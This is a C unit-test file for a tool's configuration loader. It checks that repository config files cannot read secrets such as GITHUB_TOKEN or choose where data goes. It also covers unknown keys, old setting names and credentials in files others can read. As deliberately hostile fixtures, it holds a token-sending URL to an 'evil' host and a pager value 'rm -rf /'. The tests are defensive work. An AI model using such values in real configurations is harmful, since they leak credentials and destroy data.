#include "lib/config_home.h"

#define UNTRUSTED                                                                                  \
	": a repository's file cannot choose where data goes or what is run; to review and trust " \
	"it: minsky trust\n"

static void a_repository_learns_little_of_the_environment(void **state)
{
	(void)state;
	assert_int_equal(setenv("MINSKY_X", "one", 1), 0);
	assert_int_equal(setenv("XDG_X", "two", 1), 0);
	assert_int_equal(setenv("USER", "ana", 1), 0);
	put(repository_file, "session: {base: '${MINSKY_X}-${XDG_X}-${USER}'}\n", 0644);
	load_well(NULL);
	has("session.base", "one-two-ana", CONFIG_REPOSITORY, "~/repo.yaml:1");
	put(repository_file, "session: {base: 'x${GITHUB_TOKEN}'}\ncolor: never\n", 0644);
	load_well(NULL);
	has("session.base", NULL, CONFIG_DEFAULT, "default");
	has("color", "never", CONFIG_REPOSITORY, "~/repo.yaml:2");
	is_text(warnings.data, "~/repo.yaml: ignored 'session.base'" UNTRUSTED);
	/* no variable, and one that may be named */
	put(repository_file, "session: {base: 'x$${GITHUB_TOKEN}${HOME}'}\n", 0644);
	load_well(NULL);
	is_text(warnings.data, "");
}

static void a_repository_does_not_say_where_data_goes(void **state)
{
	(void)state;
	put(repository_file,
		"sessiondb:\n  backend: postgres\n  hub: postgres://evil/${GITHUB_TOKEN}\n"
		"  postgres: {url: 'postgres://u:p@evil/x', service: evil}\n  dbPath: /etc/x\n"
		"  sqlite: {wal: false}\npager: rm -rf /\n",
		0644);
	load_well(NULL);
	is_text(warnings.data,
		"~/repo.yaml: ignored 'sessiondb.hub', 'sessiondb.postgres.service', "
		"'sessiondb.dbPath', 'pager'" UNTRUSTED
		"~/repo.yaml: ignored 'sessiondb.postgres.url': others can read the file; run "
		"'chmod 600' on it\n"
		"~/repo.yaml: old name: 'sessiondb.dbPath' is now 'sessiondb.sqlite.path'\n");
	has("sessiondb.hub", NULL, CONFIG_DEFAULT, "default");
	has("sessiondb.postgres.url", NULL, CONFIG_DEFAULT, "default");
	has("pager", NULL, CONFIG_DEFAULT, "default");
	has("sessiondb.backend", "postgres", CONFIG_REPOSITORY, "~/repo.yaml:2");
	has("sessiondb.sqlite.wal", "false", CONFIG_REPOSITORY, "~/repo.yaml:6");
	assert_false(config_get_bool(config, "sessiondb.sqlite.wal"));
}

static void a_repository_may_come_as_text(void **state)
{
	const struct config_sources sources = {
		.repository_file = "HEAD:.minsky/config.yaml",
		.repository_text = "session: {base: dev}\npager: x\nrubbish",
		.repository_text_len = sizeof("session: {base: dev}\npager: x\n") - 1,
		.warn = warn,
	};

	(void)state;
	config_free(config);
	config = NULL;
	buf_clear(&warnings);
	assert_int_equal(config_load(&config, &sources, &err), 0);
	has("session.base", "dev", CONFIG_REPOSITORY, "HEAD:.minsky/config.yaml:1");
	assert_string_equal(warnings.data, "HEAD:.minsky/config.yaml: ignored 'pager'" UNTRUSTED);
}

static void an_unknown_key_is_a_warning(void **state)
{
	struct buf b = BUF_INIT;

	(void)state;
	put(user_file,
		"sesiondb: {backend: sqlite}\nsessiondb:\n  sqlite: {busy_timeout: 1s, x: [1]}\n"
		"workspaceRoot: /x\nfood: {bar: baz}\n\"a\\tb\": 1\ncolor: never\n",
		0600);
	load_well(NULL);
	is_text(warnings.data,
		"~/.config/minsky/config.yaml:1:12: unknown key 'sesiondb.backend'; did you mean "
		"'sessiondb.backend'?\n"
		"~/.config/minsky/config.yaml:3:12: unknown key 'sessiondb.sqlite.busy_timeout'; "
		"did you mean 'sessiondb.sqlite.busyTimeout'?\n"
		"~/.config/minsky/config.yaml:3:30: unknown key 'sessiondb.sqlite.x'; did you mean "
		"'sessiondb.sqlite.wal'?\n"
		"~/.config/minsky/config.yaml:4:1: unknown key 'workspaceRoot'; did you mean "
		"'session.workspaceRoot'?\n"
		"~/.config/minsky/config.yaml:5:8: unknown key 'food.bar'\n"
		"~/.config/minsky/config.yaml:6:1: unknown key 'a\\x09b'\n");
	has("color", "never", CONFIG_USER, "~/.config/minsky/config.yaml:7");
	has("sessiondb.backend", "json", CONFIG_DEFAULT, "default");
	for (int i = 0; i < 13; i++)
		buf_addf(&b, "zzzzzzz%d: 1\n", i);
	put(user_file, b.data, 0600);
	load_well(NULL);
	assert_non_null(strstr(warnings.data, "unknown key 'zzzzzzz9'\n"));
	assert_null(strstr(warnings.data, "zzzzzzz10"));
	assert_non_null(strstr(warnings.data, ": 3 more unknown keys\n"));
	buf_release(&b);
}

static void old_spellings_are_understood(void **state)
{
	static const char *const settings[] = { "sessiondb.enableWAL=no", NULL };

	(void)state;
	put(user_file,
		"sessiondb:\n  dbPath: /old.db\n  connectionString: postgres://db/m\n"
		"  baseDir: /base\n",
		0600);
	load_well(NULL);
	has("sessiondb.sqlite.path", "/old.db", CONFIG_USER, "~/.config/minsky/config.yaml:2");
	has("sessiondb.postgres.url", "postgres://db/m", CONFIG_USER,
		"~/.config/minsky/config.yaml:3");
	has("session.workspaceRoot", "/base", CONFIG_USER, "~/.config/minsky/config.yaml:4");
	is_text(warnings.data,
		"~/.config/minsky/config.yaml: old name: 'sessiondb.dbPath' is now "
		"'sessiondb.sqlite.path', 'sessiondb.baseDir' is now 'session.workspaceRoot'\n");
	/* the new spelling wins on its level, whichever comes first */
	put(user_file, "sessiondb:\n  path: /old.db\n  sqlite: {path: /new.db, dbPath: /older}\n",
		0600);
	assert_int_equal(setenv("MINSKY_SESSIONDB_BACKEND", "sqlite", 1), 0);
	assert_int_equal(setenv("MINSKY_SESSIONDB_BASE_DIR", "/old", 1), 0);
	assert_int_equal(setenv("MINSKY_WORKSPACE_ROOT", "/new", 1), 0);
	load_well(settings);
	has("sessiondb.sqlite.path", "/new.db", CONFIG_USER, "~/.config/minsky/config.yaml:3");
	has("sessiondb.backend", "sqlite", CONFIG_ENVIRONMENT, "MINSKY_SESSIONDB_BACKEND");
	has("session.workspaceRoot", "/new", CONFIG_ENVIRONMENT, "MINSKY_WORKSPACE_ROOT");
	has("sessiondb.sqlite.wal", "no", CONFIG_COMMAND_LINE, "command line");
	is_text(strstr(warnings.data, "environment"),
		"environment: old name: 'MINSKY_SESSIONDB_BACKEND' is now "
		"'MINSKY_SESSION_BACKEND', 'MINSKY_SESSIONDB_BASE_DIR' is now "
		"'MINSKY_WORKSPACE_ROOT'\n"
		"command line: old name: 'sessiondb.enableWAL' is now "
		"'sessiondb.sqlite.wal'\n");
}

static void a_credential_that_others_can_read_is_refused(void **state)
{
	static const char *const credentials[] = { "postgres://ana:pw@db/m",
		"postgres://db/m?password=pw", "host=db password=pw" };
	static const mode_t modes[] = { 0640, 0604, 0644 };
	struct buf b = BUF_INIT;

	(void)state;
	for (size_t i = 0; i < N(credentials); i++) {
		buf_clear(&b);
		buf_addf(&b, "sessiondb: {postgres: {url: '%s'}, backend: sqlite}\n",
			credentials[i]);
		put(user_file, b.data, modes[i]);
		load_well(NULL);
		has("sessiondb.postgres.url", NULL, CONFIG_DEFAULT, "default");
		has("sessiondb.backend", "sqlite", CONFIG_USER, "~/.config/minsky/config.yaml:1");
		is_text(warnings.data,
			"~/.config/minsky/config.yaml: ignored 'sessiondb.postgres.url': others "
			"can read the file; run 'chmod 600' on it\n");
		put(user_file, b.data, 0600);
		load_well(NULL);
		has("sessiondb.postgres.url", credentials[i], CONFIG_USER,
			"~/.config/minsky/config.yaml:1");
		assert_string_equal(warnings.data, "");
	}
	put(user_file, "sessiondb: {postgres: {url: 'postgres://ana@db/m'}}\n", 0644);
	load_well(NULL);
	has("sessiondb.postgres.url", "postgres://ana@db/m", CONFIG_USER,
		"~/.config/minsky/config.yaml:1");
	buf_release(&b);
}

static void files_that_cannot_be_read_are_errors(void **state)
{
	struct buf b = BUF_INIT;

	(void)state;
	put(user_file, "a: [\n", 0600);
	refuses("~/.config/minsky/config.yaml:2:1: did not find expected node content while "
		"parsing a flow node",
		"");
	while (b.len <= 65536)
		buf_adds(&b, "# comment\n");
	put(user_file, b.data, 0600);
	refuses("'~/.config/minsky/config.yaml' is larger than 65536 bytes", "");
	buf_release(&b);
	assert_int_equal(unlink(user_file), 0);
	assert_int_equal(mkdir(user_file, 0700), 0);
	assert_true(load(NULL) < 0);
	assert_null(config);
	assert_int_equal(rmdir(user_file), 0);
}

static void without_a_home_only_what_needs_it_fails(void **state)
{
	(void)state;
	assert_int_equal(unsetenv("HOME"), 0);
	assert_int_equal(load(NULL), ERR_IO);
	assert_int_equal(setenv("XDG_STATE_HOME", "/s", 1), 0);
	load_well(NULL);
	has("sessiondb.json.path", "/s/minsky/session-db.json", CONFIG_DEFAULT, "default");
	assert_int_equal(unsetenv("XDG_STATE_HOME"), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(a_repository_learns_little_of_the_environment),
		TEST(a_repository_does_not_say_where_data_goes),
		TEST(a_repository_may_come_as_text),
		TEST(an_unknown_key_is_a_warning),
		TEST(old_spellings_are_understood),
		TEST(a_credential_that_others_can_read_is_refused),
		TEST(files_that_cannot_be_read_are_errors),
		TEST(without_a_home_only_what_needs_it_fails),
	};

	return cmocka_run_group_tests(tests, make_home, remove_home);
}
